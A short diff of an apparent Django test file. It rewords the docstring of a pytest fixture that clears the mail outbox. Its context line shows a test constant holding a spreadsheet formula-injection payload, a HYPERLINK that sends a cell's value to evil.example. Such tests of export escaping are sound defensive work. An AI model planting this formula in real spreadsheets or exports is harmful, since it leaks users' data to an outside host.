@@ -27,7 +27,7 @@ FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
 
 @pytest.fixture
 def letters(planted: Salon, settings: Any) -> list[Any]:
-    """The mailbox; only what is asked for now comes."""
+    """The mailbox, emptied: only what is asked for from here on comes."""
     settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
     mail.outbox.clear()
     return mail.outbox
